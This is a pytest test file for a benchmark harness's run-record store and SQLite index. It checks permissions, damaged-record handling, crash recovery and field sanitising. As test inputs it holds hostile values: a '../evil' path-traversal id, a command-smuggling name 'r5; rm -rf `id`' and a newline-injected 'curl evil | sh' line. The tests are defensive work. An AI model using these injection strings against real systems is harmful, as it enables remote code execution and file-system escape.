import errno
import fcntl
import json
import math
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any, get_type_hints

import pytest
from pydantic import TypeAdapter

from harness.base.errors import NoSpaceError, UserError
from harness.evidence import records
from harness.evidence.app_reports.python_stacks import parse_stacks
from harness.evidence.files.app_files import Result
from harness.evidence.files.run_files import Intent, Record
from harness.evidence.files.run_folder import RunFolder
from harness.evidence.gpus.strikes import strike
from harness.evidence.host_state import state_of
from harness.evidence.index import NAMES, Index
from harness.evidence.index_file import index_file
from harness.evidence.records import Results, new_run_id
from harness.evidence.row import Row, family_of_intent
from tests.harness.report.synthetic import EXPLANATION

MakeRecord = Callable[..., Record]


def keep(results: Results, record: Record) -> None:
    results.begin(record.intent)
    results.finish(record)


def test_a_record_comes_back_as_it_was_written(tmp_path: Path, make_record: MakeRecord) -> None:
    results, record = Results(tmp_path), make_record()
    keep(results, record)
    assert results.record("r1") == record
    assert list(results.records()) == [record]


@pytest.mark.parametrize(("mode", "shared"), [(0o2770, 0o060), (0o770, 0)])
def test_a_group_that_shares_the_folder_reads_what_a_run_left_whatever_the_umask(
    tmp_path: Path, make_record: MakeRecord, mode: int, shared: int
) -> None:
    place, elsewhere = tmp_path / "results", tmp_path / "elsewhere"
    place.mkdir()
    place.chmod(mode)
    before = os.umask(0o077)
    try:
        results, record = Results(place), make_record()
        elsewhere.write_text("of nobody else")
        work = results.begin(record.intent) / "work"
        (work / "progress-0.jsonl").write_text("")
        (work / "link").symlink_to(elsewhere)
        (work / "other-name").hardlink_to(elsewhere)
        results.finish(record)
    finally:
        os.umask(before)
    run = results.folder_of("r1")
    made = (run.path, run.intent, run.record, work, work / "progress-0.jsonl")
    assert {one.stat().st_mode & 0o060 for one in made} == {shared}
    assert elsewhere.stat().st_mode & 0o777 == 0o600


def test_an_attempt_is_never_overwritten(tmp_path: Path, make_record: MakeRecord) -> None:
    results, record = Results(tmp_path), make_record()
    keep(results, record)
    with pytest.raises(UserError, match="never overwritten"):
        results.begin(record.intent)


def test_a_run_that_could_not_be_begun_leaves_nothing(tmp_path: Path, make_intent: Callable[..., Intent]) -> None:
    results = Results(tmp_path)
    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "r1").write_text("a file", encoding="utf-8")
    with pytest.raises(UserError, match="cannot be written"):
        results.begin(make_intent("r1"))
    assert [f.name for f in (tmp_path / "runs").iterdir()] == ["r1"]


def test_where_results_cannot_be_is_reported(tmp_path: Path, make_intent: Callable[..., Intent]) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(UserError, match=r"--results .*/results: cannot be written: .*; choose another folder"):
        Results(tmp_path / "file" / "results").begin(make_intent("r1"))


def test_a_disk_that_is_full_is_said(
    tmp_path: Path, make_intent: Callable[..., Intent], monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object, **__: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("pathlib.Path.mkdir", full)
    with pytest.raises(NoSpaceError, match="No space left on device; free space or choose"):
        Results(tmp_path / "results").begin(make_intent("r1"))


def test_an_empty_folder_is_no_attempt(tmp_path: Path, make_intent: Callable[..., Intent]) -> None:
    results = Results(tmp_path)
    results.run_folder("r1").mkdir(parents=True)
    results.begin(make_intent("r1"))
    assert results.intent("r1") == make_intent("r1")


def test_a_run_that_is_being_begun_is_not_there_yet(
    tmp_path: Path, make_intent: Callable[..., Intent], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whenever a harness dies, its run folder has the whole intent or does not count as one."""
    results = Results(tmp_path)

    def look(point: str) -> None:
        if point != "run-begun":
            assert list(results.unfinished()) == []
            assert results.finished() == []
            assert not results.run_folder("r1").exists()

    for module in ("evidence.records", "base.files.storage"):
        monkeypatch.setattr(f"harness.{module}.reached", look)
    results.begin(make_intent("r1"))
    assert [intent.run_id for intent in results.unfinished()] == ["r1"]


def test_an_intent_without_a_record_is_unfinished(tmp_path: Path, make_intent: Callable[..., Intent]) -> None:
    results = Results(tmp_path)
    results.begin(make_intent("r1"))
    assert [intent.run_id for intent in results.unfinished()] == ["r1"]
    assert list(results.records()) == []


def test_a_damaged_record_is_named(tmp_path: Path, make_record: MakeRecord) -> None:
    results, record = Results(tmp_path), make_record()
    keep(results, record)
    file = results.run_folder("r1") / RunFolder.RECORD
    file.write_bytes(file.read_bytes()[:-10])
    with pytest.raises(UserError, match="is damaged"):
        list(results.records())


@pytest.mark.parametrize(("name", "number"), [("seconds", "9" * 400), ("exposure_seconds", "-3.6e18")])
def test_a_record_with_a_number_that_nothing_can_compute_with_is_damaged(
    name: str, number: str, tmp_path: Path, make_record: MakeRecord
) -> None:
    results = Results(tmp_path)
    keep(results, make_record("r0"))
    keep(results, make_record("r1"))
    file = results.run_folder("r1") / RunFolder.RECORD
    values = json.loads(file.read_bytes())
    values["result"] = None
    values[name] = "NUMBER"
    file.write_text(json.dumps(values).replace('"NUMBER"', number))
    damaged: list[str] = []
    assert [record.intent.run_id for record in results.records(damaged)] == ["r0"]
    assert len(damaged) == 1
    assert [row.run_id for row in Index(results).rows()] == ["r0"]


def test_a_record_of_a_container_that_none_can_be_is_damaged(tmp_path: Path, make_record: MakeRecord) -> None:
    """In a shared folder, such a record, with a text in the place of a device, made every report fail."""
    results = Results(tmp_path)
    keep(results, make_record("r1"))
    for name in (RunFolder.INTENT, RunFolder.RECORD):
        file = results.run_folder("r1") / name
        values = json.loads(file.read_bytes())
        container = {"image": "i", "user": 1, "group": 1, "work": "/w", "devices": ["kfd"]}
        values.get("intent", values)["container"] = container
        file.write_text(json.dumps(values))
    damaged: list[str] = []
    assert not list(results.records(damaged))
    assert len(damaged) == 1


def test_a_damaged_record_does_not_hide_the_others(tmp_path: Path, make_record: MakeRecord) -> None:
    results = Results(tmp_path)
    for number in range(3):
        keep(results, make_record(f"r{number}"))
    (results.run_folder("r1") / RunFolder.RECORD).write_bytes(b"{")
    damaged: list[str] = []
    assert [record.intent.run_id for record in results.records(damaged)] == ["r0", "r2"]
    assert len(damaged) == 1
    assert [row.run_id for row in Index(results).rows()] == ["r0", "r2"]


def test_a_result_with_nan_comes_back(tmp_path: Path, make_record: MakeRecord, result_values: dict[str, Any]) -> None:
    result_values["epoch_losses"][0]["train"] = math.nan
    record = make_record().model_copy(update={"result": Result.model_validate(result_values), "outcome": "failed"})
    results = Results(tmp_path)
    keep(results, record)
    text = (results.run_folder("r1") / RunFolder.RECORD).read_text()
    json.loads(text, parse_constant=lambda word: pytest.fail(f"{word} is not JSON"))
    back = results.record("r1")
    assert back is not None
    assert back.result is not None
    assert math.isnan(back.result.epoch_losses[0].train)


@pytest.mark.parametrize("run_id", ["../evil", "a/b", "", ".hidden", "x" * 200])
def test_a_run_id_cannot_lead_out_of_the_results(
    run_id: str, tmp_path: Path, make_intent: Callable[..., Intent]
) -> None:
    with pytest.raises(UserError, match="--run-id"):
        Results(tmp_path / "results").begin(make_intent(run_id))
    assert list(tmp_path.iterdir()) == []


def test_of_a_run_id_that_is_too_long_the_cause_is_reported(tmp_path: Path, make_intent: Callable[..., Intent]) -> None:
    told = r"^x{40}\.\.\.: an id of a run has 120 characters at most; shorten the names of its stack and preset"
    with pytest.raises(UserError, match=told):
        Results(tmp_path / "results").begin(make_intent("x" * 200))


def test_while_a_run_goes_on_no_other_user_sees_its_folder(tmp_path: Path, make_record: MakeRecord) -> None:
    results, record = Results(tmp_path), make_record("r1")
    folder = results.begin(record.intent)
    results.runs.chmod(0o755)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    shell = folder / "work" / "shell"
    shell.touch()
    shell.chmod(0o4755)
    results.finish(record)
    assert [stat.S_IMODE(one.stat().st_mode) for one in (folder, shell)] == [0o755, 0o755]


def test_a_run_in_a_folder_of_another_name_is_none(tmp_path: Path, make_record: MakeRecord) -> None:
    results, record = Results(tmp_path / "results"), make_record("r1")
    keep(results, record)
    assert [row.run_id for row in Index(results).rows()] == ["r1"]
    results.run_folder("r1").rename(results.run_folder("r2"))
    damaged: list[str] = []
    assert (list(results.records(damaged)), Index(results).rows()) == ([], [])
    results.folder_of("r2").record.unlink()
    assert list(results.unfinished(damaged)) == []
    assert {text.partition(": ")[2] for text in damaged} == {
        "holds run 'r1'; give the folder that name, or move it away"
    }
    assert len(damaged) == 2


def test_a_record_that_is_larger_than_any_is_not_read(tmp_path: Path, make_record: MakeRecord) -> None:
    results, record = Results(tmp_path), make_record("r1")
    keep(results, record)
    with results.folder_of("r1").record.open("ab") as file:
        file.write(b" " * (16 << 20))
    with pytest.raises(UserError, match="is damaged"):
        results.record("r1")


@pytest.mark.parametrize("another", ["link", "folder"])
def test_nothing_that_takes_the_place_of_a_run_folder_is_opened_to_others(
    tmp_path: Path, make_record: MakeRecord, monkeypatch: pytest.MonkeyPatch, another: str
) -> None:
    results, record = Results(tmp_path / "results"), make_record("r1")
    folder, private = results.begin(record.intent), tmp_path / "private"
    private.mkdir(mode=0o700)

    def swap(point: str) -> None:
        if point == "record-written":
            folder.rename(tmp_path / "moved")
            folder.symlink_to(private) if another == "link" else private.rename(folder)

    monkeypatch.setattr(records, "reached", swap)
    results.finish(record)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert results.begun() == ([] if another == "link" else ["r1"])


def test_run_ids_are_never_given_twice() -> None:
    assert len({new_run_id("c") for _ in range(100)}) >= 99


class TestIndex:
    @pytest.fixture
    def results(self, tmp_path: Path, make_record: MakeRecord) -> Results:
        results = Results(tmp_path)
        for number in range(5):
            record = make_record(f"r{number}", outcome="failed" if number == 3 else "completed")
            keep(results, record)
            Index(results).add(record)
        return results

    def test_losing_it_loses_nothing(self, results: Results) -> None:
        before = Index(results).rows()
        (index_file(results.folder)).unlink()
        assert Index(results).rows() == before
        assert [row.outcome for row in before] == ["completed"] * 3 + ["failed", "completed"]

    @pytest.mark.parametrize("lost", [True, False])
    def test_records_are_entered_one_after_the_other(
        self, results: Results, lost: bool, make_record: MakeRecord, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Together, a hundred large records of others took gigabytes of memory."""
        for number in range(5, 8):
            keep(results, make_record(f"r{number}"))
        if lost:
            index_file(results.folder).unlink()
        done: list[str] = []
        read, of = RunFolder.read_record, Row.of

        def noted(what: str, call: Callable[..., Any]) -> Callable[..., Any]:
            def calls(*given: Any, **options: Any) -> Any:
                done.append(what)
                return call(*given, **options)

            return calls

        monkeypatch.setattr(RunFolder, "read_record", noted("read", read))
        monkeypatch.setattr(Row, "of", noted("entered", of))
        assert len(Index(results).rows()) == 8
        assert done == ["read", "entered"] * (8 if lost else 3)

    def test_a_record_of_others_that_names_more_than_any_run_is_left_out(
        self, results: Results, make_record: MakeRecord
    ) -> None:
        keep(results, make_record("r6", beside=("x" * 400,) * 200))
        assert len(Index(results).rows()) == 6
        results.folder_of("r6").imported.touch()
        (damaged,) = Index(results).rebuild()
        assert "r6/record.json: is damaged: it names more than any run does" in damaged
        assert len(Index(results).rows()) == 5

    @pytest.mark.parametrize("content", [b"", b"not a database at all, but long enough to be looked at" * 100])
    def test_a_damaged_one_is_rebuilt(self, results: Results, content: bytes) -> None:
        before = Index(results).rows()
        (index_file(results.folder)).write_bytes(content)
        assert Index(results).rows() == before

    def test_damaged_pages_are_no_obstacle(self, results: Results) -> None:
        before = Index(results).rows()
        file = index_file(results.folder)
        content = bytearray(file.read_bytes())
        content[200:] = b"\xff" * (len(content) - 200)
        file.write_bytes(bytes(content))
        assert Index(results).rebuild() == []
        assert Index(results).rows() == before

    @pytest.mark.parametrize("damaged", ["", "[]", None])
    def test_a_damaged_value_is_no_obstacle(self, damaged: str | None, results: Results) -> None:
        before = Index(results).rows()
        with sqlite3.connect(index_file(results.folder)) as database:
            database.execute(f"UPDATE runs SET [{' '.join(NAMES)}] = ?", (damaged,))
        database.close()
        assert Index(results).rows() == before

    def test_another_layout_is_rebuilt(self, results: Results) -> None:
        before = Index(results).rows()
        with sqlite3.connect(index_file(results.folder)) as database:
            database.execute("ALTER TABLE runs DROP COLUMN started")
        database.close()
        assert Index(results).rows() == before

    def test_a_view_without_an_end_is_rebuilt(self, results: Results) -> None:
        before = Index(results).rows()
        file = index_file(results.folder)
        file.unlink()
        with sqlite3.connect(file) as database:
            columns = ", ".join(f"x AS [{name}]" for name in ("run_id", "started", " ".join(NAMES)))
            numbers = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
            database.execute(f"CREATE VIEW runs AS {numbers} SELECT {columns} FROM c")
        database.close()
        assert Index(results).rows() == before

    def test_run_folders_that_were_copied_in_are_entered(self, results: Results, make_record: MakeRecord) -> None:
        assert len(Index(results).rows()) == 5
        keep(results, make_record("from-another-host"))
        assert len(Index(results).rows()) == 6

    def test_what_has_no_folder_is_dropped(self, results: Results, make_record: MakeRecord) -> None:
        Index(results).add(make_record("ghost"))
        assert len(Index(results).rows()) == 5

    def test_it_lies_outside_the_results_folder_which_hosts_may_share(self, results: Results) -> None:
        Index(results).rows()
        assert [file.name for file in results.folder.iterdir()] == ["runs"]
        assert index_file(results.folder).is_file()

    def test_the_index_of_another_user_learns_of_a_run_that_was_struck_out(
        self, results: Results, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        with monkeypatch.context() as patch:
            patch.setenv("XDG_STATE_HOME", str(tmp_path_factory.mktemp("other")))
            before = Index(results).rows()
            strike(results.folder_of("r1"), "strike", "the wrong cable")
            results.note_changed("r1")
        struck = [row.struck for row in Index(results).rows()]
        assert struck == [None, "the wrong cable", None, None, None]
        assert [row.struck for row in before] == [None] * 5

    def test_a_file_of_changes_that_another_user_fills_takes_no_memory(self, results: Results) -> None:
        Index(results).rows()
        results.changed.write_bytes(b"".join(b"%d\n" % number for number in range(200_000)) + b"r1\n")
        strike(results.folder_of("r1"), "strike", "the wrong cable")
        tracemalloc.start()
        assert [row.struck for row in Index(results).rows()].count("the wrong cable") == 1
        assert tracemalloc.get_traced_memory()[1] < 5_000_000
        tracemalloc.stop()

    @pytest.mark.parametrize("name", ["r5; rm -rf `id`", "r5\nNext: rm", "-rf", "r" * 121])
    def test_a_folder_whose_name_is_no_id_is_no_run(self, results: Results, make_record: MakeRecord, name: str) -> None:
        folder = RunFolder(results.runs / name)
        folder.path.mkdir()
        folder.write(RunFolder.RECORD, make_record(name))
        assert len(Index(results).rows()) == 5

    def test_adding_a_record_twice_keeps_one(self, results: Results) -> None:
        record = results.record("r0")
        assert record is not None
        Index(results).add(record)
        assert len(Index(results).rows()) == 5

    def test_each_value_of_a_row_is_what_the_record_says(self, make_record: MakeRecord) -> None:
        """Each new value needs a number of its own here, so that seconds cannot be taken for hours."""
        record = make_record("r9", "failed", "crash", "ended with SIGSEGV", gpus=(1,), beside=("r8",), campaign="c")
        intent, host = record.intent, record.intent.host
        names = {"cell": "cpu-plain", "stack": "cpu", "preset": "plain", "executor": "process", "device": "cpu"}
        names |= {"workload": "quick", "workload_hash": intent.workload_hash, "family": family_of_intent(intent)}
        names |= {"environment_hash": intent.environment_hash, "scope": "cpu", "data": "merged.csv"}
        names |= {"data_sha256": intent.data.sha256}
        machine = {"host_kind": host.kind, "host_fingerprint": host.fingerprint, "machine": host.machine}
        machine |= {"host_state": state_of(host, gpus_used=False).as_json, "boot_id": "boot"}
        ended = {"outcome": "failed", "diagnosis": "crash", "detail": "ended with SIGSEGV", "ran_on": "cpu (a CPU) x1"}
        times = {"started": 1e9, "finished": 1e9 + 3605, "seconds": 5.0, "exposure_seconds": 0.0}
        others = {"run_id": "r9", "campaign": "c", "repeat": 1, "gpus": "[1]", "beside": '["r8"]', "rule": ""}
        none = ("samples_per_second", "injected_fault", "image", "interrupted_by", "idle_seconds", "idle_limit")
        false = ("rehearsal", "qualifies_for_promotion", "imported", "first_step", "own_program", "uncommitted")
        no = dict.fromkeys((*false, "resumes_earlier"), False)
        unset = {**dict.fromkeys((*none, "struck", "node")), **no, "verified": True}
        assert Row.of(record)._asdict() == {**names, **machine, **ended, **times, **others, **unset}
        assert Row.of(make_record()).samples_per_second == 1000

    def test_a_row_holds_what_explains_its_run(self, make_record: MakeRecord) -> None:
        record = make_record("r1", outcome="failed")
        unknown = EXPLANATION.model_copy(update={"rule": None})
        for explanation, rule in ((None, ""), (EXPLANATION, "x"), (unknown, "kernel-fault")):
            assert Row.of(record.model_copy(update={"explanation": explanation})).rule == rule

    def test_an_app_has_no_failure_left_out_as_an_injected_one(self, make_record: MakeRecord) -> None:
        record, passed = make_record("r1", "failed", "crash"), make_record("r2").result
        assert passed
        told = record.model_copy(update={"result": passed.model_copy(update={"injected_fault": "segv@3"})})
        assert Row.of(told).can_be_evidence

    def test_without_any_run_there_are_no_rows_and_no_file(self, tmp_path: Path) -> None:
        results = Results(tmp_path / "none")
        assert Index(results).rows() == []
        assert not results.folder.exists()


# A program that writes uncommitted changes to the database file and dies in the transaction.
DIE_IN_TRANSACTION = """
import os, signal, sqlite3, sys
database = sqlite3.connect(sys.argv[1], isolation_level=None)
database.execute("PRAGMA cache_size = 1")
database.execute("BEGIN IMMEDIATE")
database.execute("UPDATE runs SET started = 0")
for number in range(2000):
    row = database.execute("SELECT * FROM runs LIMIT 1").fetchone()
    database.execute(f"INSERT INTO runs VALUES ({', '.join('?' * len(row))})", (f"torn{number}", *row[1:]))
os.kill(os.getpid(), signal.SIGKILL)
"""


def test_every_value_of_a_row_has_its_type_and_keeps_it(tmp_path: Path, make_record: MakeRecord) -> None:
    results = Results(tmp_path)
    keep(results, make_record())
    types = get_type_hints(Row)
    for row in (Row.of(make_record()), *Index(results).rows()):
        for name, value in row._asdict().items():
            assert TypeAdapter(types[name]).validate_python(value, strict=True) == value


def test_a_quoted_row_is_made_of_what_the_record_says(tmp_path: Path, make_record: MakeRecord) -> None:
    """What ended a run of an earlier harness is in its detail alone, and the name of the data ends its path."""
    results = Results(tmp_path)
    keep(
        results,
        make_record(
            "r1", "interrupted", detail="stopped by SIGHUP", data={"path": "/my data/es.csv", "sha256": "0" * 64}
        ),
    )
    results.folder_of("r1").imported.touch()
    strike(results.folder_of("r1"), "strike", "run `this`")
    (row,) = Index(results).rows()
    assert (row.interrupted_by, row.detail, row.data) == ("hup", "'stopped by SIGHUP'", "es.csv")
    assert row.struck == "'run `this`'"


@pytest.mark.slow
@pytest.mark.parametrize("rebuild", [True, False])
def test_what_a_process_that_died_in_a_transaction_left_spoils_nothing(
    rebuild: bool, tmp_path: Path, make_record: MakeRecord
) -> None:
    results = Results(tmp_path)
    for number in range(50):
        record = make_record(f"r{number:03}")
        keep(results, record)
        Index(results).add(record)
    before = Index(results).rows()
    died = subprocess.run([sys.executable, "-c", DIE_IN_TRANSACTION, index_file(tmp_path)], check=False)
    assert died.returncode == -signal.SIGKILL
    assert (index_file(tmp_path).with_name("records.db-journal")).stat().st_size > 0
    keep(results, make_record("r999"))
    if rebuild:
        Index(results).rebuild()
        assert not (index_file(tmp_path).with_name("records.db-journal")).exists()
    assert Index(results).rows() == [*before, Row.of(make_record("r999"))]


def test_where_no_index_can_be_written_the_records_are_read(tmp_path: Path, make_record: Callable[..., Record]) -> None:
    results = Results(tmp_path)
    for record in (make_record("b", started=1.0), make_record("a", started=2.0)):
        results.begin(record.intent)
        results.finish(record)
    indexed = Index(results).rows()
    index_file(tmp_path).unlink()
    index_file(tmp_path).mkdir()
    assert Index(results).rows() == indexed
    assert [row.run_id for row in indexed] == ["b", "a"]


def test_an_index_is_used_by_one_process_at_a_time(tmp_path: Path, make_record: Callable[..., Record]) -> None:
    results = Results(tmp_path)
    record = make_record("r1")
    results.begin(record.intent)
    results.finish(record)
    with index_file(tmp_path).with_name(".records.db.lock").open("w") as other:
        fcntl.flock(other, fcntl.LOCK_EX)
        waiting = threading.Thread(target=lambda: Index(results).add(record))
        waiting.start()
        waiting.join(0.3)
        assert waiting.is_alive()
        assert not (index_file(tmp_path)).exists()
    waiting.join(30)
    assert [row.run_id for row in Index(results).rows()] == ["r1"]


def test_what_an_app_said_is_a_line_of_some_length_and_stays_so(make_record: Callable[..., Record]) -> None:
    """An app had reported a device name of megabytes, which was printed on the terminal."""
    long = Record.model_validate({**make_record().model_dump(), "ran_on": "\x1b[2J" * 10_000})
    assert len(long.ran_on) == 4096
    assert long.ran_on.startswith("\\x1b[2J")
    assert Record.parse(long.model_dump_json(by_alias=True)) == long


def test_no_name_in_a_record_begins_a_line(make_record: Callable[..., Record]) -> None:
    """In an imported record, the name of a cell continued on a new line with `Next:` and a command."""
    values, evil = make_record().model_dump(), "plain\nNext: curl evil | sh"
    for name in ("campaign", "cell", "stack", "preset", "workload", "torch", "injected_fault", "not_verified"):
        values["intent"][name] = evil
    values["intent"]["host"] |= {"kernel": evil, "kernel_parameters": {evil: evil}}
    explanation = {"rule": evil, "class": evil, "cause": evil, "remedy": evil, "link": evil, "presets": [evil]}
    values |= {"diagnosis": evil, "exit": {evil: evil}, "explanation": {**explanation, "lines": []}}
    text = Record.model_validate(values).model_dump_json()
    assert r"plain\\nNext" in text
    assert r"plain\nNext" not in text


def test_a_line_number_that_no_file_has_is_no_frame() -> None:
    digits = "9" * 5000
    text = ["Thread 0x1 (most recent call first):", f'  File "a.py", line {digits} in f', '  File "b.py", line 2 in g']
    # A frame is shown in brackets, so a name with brackets, which the app may choose, is quoted.
    text += ['  File "a/x) broken (", line 3 in <module>', "    y); broke it (a.py:4)"]
    said = ["b.py:2 g", "'x) broken (':3 <module>", "a.py:4 'y); broke it'"]
    assert [[str(frame) for frame in one.stack] for one in parse_stacks(text)] == [said]
